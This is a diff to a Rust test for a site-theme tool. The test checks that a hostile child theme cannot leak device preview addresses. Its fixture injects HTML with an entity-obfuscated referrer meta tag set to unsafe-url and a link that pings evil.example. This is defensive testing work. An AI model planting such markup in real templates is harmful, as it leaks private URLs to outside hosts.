@@ -308,12 +308,12 @@ fn the_token_opens_everything_and_stands_in_no_redirect() {
 #[test]
 fn a_theme_cannot_make_pages_tell_the_address_of_a_preview_for_devices() {
     let page = std::fs::read_to_string(project().join("themes/italia/page.html")).unwrap();
-    let telling = "<META content=unsafe-url NAME='&#114;eferrer'><a href=https://evil.example/ referrerPolicy = unsafe-url ping=https://evil.example/>x</a></body>";
-    assert!(page.contains("</body>"));
+    // What a template prints is looked at by nobody before it is shown.
+    let telling = "<META content=unsafe-url NAME='{{ \"&#114;eferrer\" | safe }}'><a href=https://evil.example/ referrerPolicy = unsafe-url ping=https://evil.example/>x</a>";
     let site = Folder::minimal()
         .replace("site.yaml", "\n", "\ntheme: mio\n")
-        .file("themes/mio/theme.yaml", "name: Mio\nextends: italia\n")
-        .file("themes/mio/page.html", page.replace("</body>", telling));
+        .file("themes/mio/theme.yaml", "name: Mio\ncontract: 2\nextends: italia\n")
+        .file("themes/mio/page.html", page + telling);
     let folder = TempDir::new().unwrap();
     site.write_to(folder.path());
     for host in [None, Some("127.0.0.1".parse().unwrap())] {
